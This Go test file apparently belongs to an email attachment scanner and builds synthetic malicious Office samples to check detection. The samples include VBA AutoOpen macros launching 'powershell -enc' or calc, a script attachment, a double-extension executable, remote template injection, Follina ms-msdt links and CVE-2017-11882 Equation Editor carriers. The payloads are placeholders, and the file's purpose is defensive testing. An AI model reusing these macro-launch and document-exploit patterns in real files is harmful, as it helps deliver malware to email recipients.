package attach

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"

	"github.com/mailguard/mailguard/reason"
)

const macroSource = "Attribute VB_Name = \"NewMacros\"\r\nSub AutoOpen()\r\n  CreateObject(\"WScript.Shell\").Run \"powershell -enc AAAA\"\r\nEnd Sub\r\n"

func mkZip(t testing.TB, files map[string][]byte, order ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, n := range order {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(files[n])
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func mkDocm(t testing.TB) []byte {
	vba := buildCFB(vbaEntries("", map[string]string{"NewMacros": macroSource, "ThisDocument": "Attribute VB_Name = \"ThisDocument\"\r\n"}), nil)
	files := map[string][]byte{
		"[Content_Types].xml":          []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`),
		"_rels/.rels":                  []byte(`<Relationships/>`),
		"word/document.xml":            []byte(`<w:document/>`),
		"word/vbaProject.bin":          vba,
		"word/_rels/document.xml.rels": []byte(`<Relationships/>`),
	}
	return mkZip(t, files, "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels", "word/vbaProject.bin")
}

func TestDocmVBA(t *testing.T) {
	raw := mkMessage("見積書", attachment("見積書.docx", "application/octet-stream", mkDocm(t)))
	res := walk(t, raw, Options{})
	doc := file(t, res, "見積書.docx")
	if doc.Type != typeDocm {
		t.Errorf("type %q, want %q", doc.Type, typeDocm)
	}
	wantTag(t, doc.Findings, reason.MacroDocument)
	mi := doc.Features.Macros
	if mi == nil || !mi.VBA || len(mi.Modules) != 2 || len(mi.AutoRun) == 0 || mi.AutoRun[0] != "AutoOpen" {
		t.Fatalf("macro info %+v", mi)
	}
	src := file(t, res, "見積書.docx/vba/NewMacros.vba")
	if !src.Derived || string(content(t, src)) != macroSource {
		t.Errorf("derived source %q (derived %v)", content(t, src), src.Derived)
	}
}

func TestDocWithVBAAndEncryption(t *testing.T) {
	fib := make([]byte, 1024)
	binary.LittleEndian.PutUint16(fib, 0xA5EC)
	doc := buildCFB(append(vbaEntries("Macros/", map[string]string{"Module1": macroSource}),
		cfbEntry{path: "WordDocument", data: fib}, cfbEntry{path: "1Table", data: make([]byte, 100)}), nil)
	res := walk(t, mkMessage("x", attachment("a.doc", "application/msword", doc)), Options{})
	f := file(t, res, "a.doc")
	wantTag(t, f.Findings, reason.MacroDocument)
	file(t, res, "a.doc/vba/Module1.vba")
	wantNoTag(t, f.Findings, reason.EncryptedUnscannable)

	binary.LittleEndian.PutUint16(fib[0x0A:], 0x0100)
	enc := buildCFB([]cfbEntry{{path: "WordDocument", data: fib}, {path: "1Table", data: make([]byte, 100)}}, nil)
	res = walk(t, mkMessage("x", attachment("b.doc", "application/msword", enc)), Options{})
	f = file(t, res, "b.doc")
	if !f.Encrypted {
		t.Error("encrypted doc not marked encrypted")
	}
	wantTag(t, f.Findings, reason.EncryptedUnscannable)

	agile := buildCFB([]cfbEntry{{path: "EncryptionInfo", data: []byte{4, 0, 4, 0, 0x40, 0, 0, 0}}, {path: "EncryptedPackage", data: make([]byte, 5000)}}, nil)
	res = walk(t, mkMessage("x", attachment("c.docx", "application/octet-stream", agile)), Options{})
	f = file(t, res, "c.docx")
	if f.Features.EncryptedDoc != "ooxml-encrypted-package" {
		t.Errorf("encrypted kind %q", f.Features.EncryptedDoc)
	}
	wantTag(t, f.Findings, reason.EncryptedUnscannable)
}

func biff(typ uint16, data []byte) []byte {
	b := binary.LittleEndian.AppendUint16(nil, typ)
	b = binary.LittleEndian.AppendUint16(b, uint16(len(data)))
	return append(b, data...)
}

func TestXLSXLM(t *testing.T) {
	sheet := func(dt byte, name string) []byte {
		d := []byte{0, 0, 0, 0, 0, dt, byte(len(name)), 0}
		return biff(0x0085, append(d, name...))
	}
	var wb []byte
	wb = append(wb, biff(0x0809, make([]byte, 16))...)
	wb = append(wb, sheet(0, "Sheet1")...)
	wb = append(wb, sheet(1, "Macro1")...)
	wb = append(wb, biff(0x000A, nil)...)
	xls := buildCFB([]cfbEntry{{path: "Workbook", data: wb}}, nil)
	res := walk(t, mkMessage("x", attachment("a.xls", "application/vnd.ms-excel", xls)), Options{})
	f := file(t, res, "a.xls")
	wantTag(t, f.Findings, reason.MacroDocument)
	if f.Features.Macros == nil || !f.Features.Macros.XLM {
		t.Errorf("macros %+v", f.Features.Macros)
	}
	// Without the macro sheet: no finding.
	wb = append(append(biff(0x0809, make([]byte, 16)), sheet(0, "Sheet1")...), biff(0x000A, nil)...)
	res = walk(t, mkMessage("x", attachment("b.xls", "application/vnd.ms-excel", buildCFB([]cfbEntry{{path: "Workbook", data: wb}}, nil))), Options{})
	wantNoTag(t, file(t, res, "b.xls").Findings, reason.MacroDocument)

	// xlsm with xl/macrosheets.
	x := mkZip(t, map[string][]byte{
		"[Content_Types].xml":       []byte(`<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>`),
		"xl/workbook.xml":           []byte(`<workbook/>`),
		"xl/macrosheets/sheet1.xml": []byte(`<xm:macrosheet/>`),
	}, "[Content_Types].xml", "xl/workbook.xml", "xl/macrosheets/sheet1.xml")
	res = walk(t, mkMessage("x", attachment("c.xlsx", "application/octet-stream", x)), Options{})
	f = file(t, res, "c.xlsx")
	wantTag(t, f.Findings, reason.MacroDocument)
	if f.Type != typeXlsm {
		t.Errorf("type %q", f.Type)
	}
}

func ole10Native(label string, data []byte) []byte {
	var b []byte
	b = append(b, 0, 0, 0, 0, 2, 0)
	b = append(b, label...)
	b = append(b, 0)
	b = append(b, `C:\Users\x\`+label...)
	b = append(b, 0, 0, 0, 3, 0)
	tmp := `C:\Temp\` + label + "\x00"
	b = binary.LittleEndian.AppendUint32(b, uint32(len(tmp)))
	b = append(b, tmp...)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(data)))
	b = append(b, data...)
	binary.LittleEndian.PutUint32(b, uint32(len(b)-4))
	return b
}

func TestOLEEmbeddedPackage(t *testing.T) {
	doc := buildCFB([]cfbEntry{
		{path: "WordDocument", data: binary.LittleEndian.AppendUint16(nil, 0xA5EC)},
		{path: "ObjectPool/_1234/\x01Ole10Native", data: ole10Native("invoice.pdf.exe", minimalPE())},
	}, nil)
	res := walk(t, mkMessage("x", attachment("a.doc", "application/msword", doc)), Options{})
	var exe *File
	for _, f := range res.Files {
		if f.Name == "invoice.pdf.exe" {
			exe = f
		}
	}
	if exe == nil {
		t.Fatalf("embedded package not extracted: %+v", res.Files)
	}
	wantTag(t, exe.Findings, reason.ExecAttachment)
	wantTag(t, exe.Findings, reason.DoubleExtension)
	if !strings.HasPrefix(exe.Path, "a.doc/ObjectPool/") || exe.Depth != 1 {
		t.Errorf("path %q depth %d", exe.Path, exe.Depth)
	}
}

func TestMSG(t *testing.T) {
	u16 := func(s string) []byte {
		var b []byte
		for _, r := range s {
			b = binary.LittleEndian.AppendUint16(b, uint16(r))
		}
		return b
	}
	msg := buildCFB([]cfbEntry{
		{path: "__properties_version1.0", data: make([]byte, 32)},
		{path: "__substg1.0_0037001F", data: u16("見積書")},
		{path: "__substg1.0_1000001F", data: u16("パスワード：Msg4Pass\r\n")},
		{path: "__attach_version1.0_#00000000/__substg1.0_3707001F", data: u16("run.js")},
		{path: "__attach_version1.0_#00000000/__substg1.0_37010102", data: []byte("WScript.CreateObject('WScript.Shell').Run('calc')")},
	}, nil)
	res := walk(t, mkMessage("x", attachment("fwd.msg", "application/vnd.ms-outlook", msg)), Options{})
	m := file(t, res, "fwd.msg")
	if m.Type != typeMSG {
		t.Errorf("type %q", m.Type)
	}
	js := file(t, res, "fwd.msg/run.js")
	wantTag(t, js.Findings, reason.ExecAttachment)
	found := false
	for _, p := range res.Passwords {
		found = found || p == "Msg4Pass"
	}
	if !found {
		t.Errorf("msg body password not collected: %q", res.Passwords)
	}
}

// TestPPTVBA builds a PowerPoint 97 file whose VBA project sits, as
// PowerPoint stores it, in a zlib-compressed ExOleObjStg record of the
// "PowerPoint Document" stream.
func TestPPTVBA(t *testing.T) {
	vba := buildCFB(vbaEntries("", map[string]string{"Module1": "Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\nShell \"calc\"\r\nEnd Sub\r\n"}), nil)
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(vba)
	zw.Close()
	rec := binary.LittleEndian.AppendUint32(nil, uint32(len(vba)))
	rec = append(rec, z.Bytes()...)
	var stream []byte
	stream = append(stream, 0x0f, 0x00, 0xe8, 0x03, 0, 0, 0, 0) // a DocumentContainer header (unused)
	stream = binary.LittleEndian.AppendUint16(stream, 0x0010)   // recVer 0, recInstance 1
	stream = binary.LittleEndian.AppendUint16(stream, 0x1011)   // RT_ExternalOleObjectStg
	stream = binary.LittleEndian.AppendUint32(stream, uint32(len(rec)))
	stream = append(stream, rec...)
	ppt := buildCFB([]cfbEntry{{path: "PowerPoint Document", data: stream}, {path: "Current User", data: make([]byte, 40)}}, nil)
	res := walk(t, mkMessage("x", attachment("deck.ppt", "application/vnd.ms-powerpoint", ppt)), Options{})
	f := file(t, res, "deck.ppt")
	wantTag(t, f.Findings, reason.MacroDocument)
	if f.Features.Macros == nil || len(f.Features.Macros.AutoRun) == 0 {
		t.Errorf("macros %+v", f.Features.Macros)
	}
	file(t, res, "deck.ppt/ExOleObjStg-1.ole/vba/Module1.vba")
}

// docxWithRels is a minimal docx whose document relationships are rels.
func docxWithRels(t testing.TB, rels string) []byte {
	files := map[string][]byte{
		"[Content_Types].xml":          []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`),
		"_rels/.rels":                  []byte(`<Relationships/>`),
		"word/document.xml":            []byte(`<w:document/>`),
		"word/_rels/settings.xml.rels": []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + rels + `</Relationships>`),
	}
	return mkZip(t, files, "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/settings.xml.rels")
}

// TestRemoteTemplate: template injection, Follina's ms-msdt object and a
// UNC image are reported; hyperlinks and links to other workbooks are not.
func TestRemoteTemplate(t *testing.T) {
	const rt = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	for _, c := range []struct {
		name, rels string
		want       bool
	}{
		{"template injection", `<Relationship Id="rId1" Type="` + rt + `attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/>`, true},
		{"follina", `<Relationship Id="rId9" Type="` + rt + `oleObject" Target="mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html" TargetMode="External"/>`, true},
		{"ms-msdt hyperlink", `<Relationship Id="rId3" Type="` + rt + `hyperlink" Target="ms-msdt:/id PCWDiagnostic" TargetMode="External"/>`, true},
		{"unc image", `<Relationship Id="rId4" Type="` + rt + `image" Target="\\198.51.100.7\share\a.png" TargetMode="External"/>`, true},
		{"hyperlink", `<Relationship Id="rId5" Type="` + rt + `hyperlink" Target="https://www.example.co.jp/" TargetMode="External"/>`, false},
		{"unc hyperlink", `<Relationship Id="rId6" Type="` + rt + `hyperlink" Target="file:///\\fileserver\共有\見積.xlsx" TargetMode="External"/>`, false},
		{"workbook link", `<Relationship Id="rId7" Type="` + rt + `externalLinkPath" Target="file:///C:\Users\x\予算.xlsx" TargetMode="External"/>`, false},
		{"internal template", `<Relationship Id="rId8" Type="` + rt + `attachedTemplate" Target="Normal.dotm"/>`, false},
	} {
		res := walk(t, mkMessage("x", attachment("a.docx", "application/octet-stream", docxWithRels(t, c.rels))), Options{})
		f := file(t, res, "a.docx")
		if got := f.has(reason.RemoteTemplate); got != c.want {
			t.Errorf("%s: remote_template %v, want %v (%+v)", c.name, got, c.want, f.Findings)
		}
	}
}

// TestEquationEditor: the CVE-2017-11882 carrier in RTF (named, or only
// in the object's bytes behind a broken header) and in a .doc.
func TestEquationEditor(t *testing.T) {
	hexOf := func(b []byte) string { return fmt.Sprintf("%x", b) }
	named := `{\rtf1{\object\objemb\objw100\objh100{\*\objclass Equation.3}{\*\objdata 0105000002000000}}}`
	hidden := `{\rtf1{\object\objupdate{\*\objdata 01050000020000000b000000` + hexOf([]byte("EqUaTiOn.3\x00")) + `ffffffff` + "\r\n" + hexOf(equationCLSID) + `}}}`
	for name, doc := range map[string]string{"named.rtf": named, "hidden.rtf": hidden} {
		res := walk(t, mkMessage("x", attachment(name, "application/rtf", []byte(doc))), Options{})
		wantTag(t, file(t, res, name).Findings, reason.ExploitObject)
	}
	plain := `{\rtf1{\object\objemb{\*\objclass Word.Document.8}{\*\objdata 0105000002000000}}}`
	res := walk(t, mkMessage("x", attachment("plain.rtf", "application/rtf", []byte(plain))), Options{})
	wantNoTag(t, file(t, res, "plain.rtf").Findings, reason.ExploitObject)

	fib := make([]byte, 1024)
	binary.LittleEndian.PutUint16(fib, 0xA5EC)
	doc := buildCFB([]cfbEntry{{path: "WordDocument", data: fib}, {path: "1Table", data: make([]byte, 100)},
		{path: "ObjectPool/_1234567890/Equation Native", data: make([]byte, 200)}}, nil)
	res = walk(t, mkMessage("x", attachment("a.doc", "application/msword", doc)), Options{})
	wantTag(t, file(t, res, "a.doc").Findings, reason.ExploitObject)
}
